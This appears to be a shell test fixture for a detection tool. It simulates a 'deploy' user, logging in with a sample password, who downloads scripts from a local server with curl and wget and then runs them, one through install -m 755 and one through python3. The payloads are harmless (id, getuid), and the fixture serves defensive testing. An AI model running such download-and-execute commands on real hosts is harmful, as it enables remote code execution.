# deploy fetches a script with curl, puts it in place with `install -m 755` (a new file, made executable by its maker) and runs it;
# then another one with wget straight into an interpreter, that never becomes executable.
# rules: recording
# format: ENRICHED
# node: build-03
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"

mkdir "$work/web"
printf '#!/bin/sh\nid\nsleep 1\n' >"$work/web/agent.sh"
printf 'import os\nprint(os.getuid())\n' >"$work/web/collect.py"
serves "$work/web" 8000
from "$source_ip" deploy deploy-Passw0rd "curl -s http://$source_ip:8000/agent.sh -o /tmp/agent.sh; mkdir -p ~/.local/bin; install -m 755 /tmp/agent.sh ~/.local/bin/agent; rm /tmp/agent.sh; ~/.local/bin/agent"
from "$source_ip" deploy deploy-Passw0rd "wget -q -O /tmp/collect.py http://$source_ip:8000/collect.py; python3 /tmp/collect.py; rm /tmp/collect.py"
kill "$server"
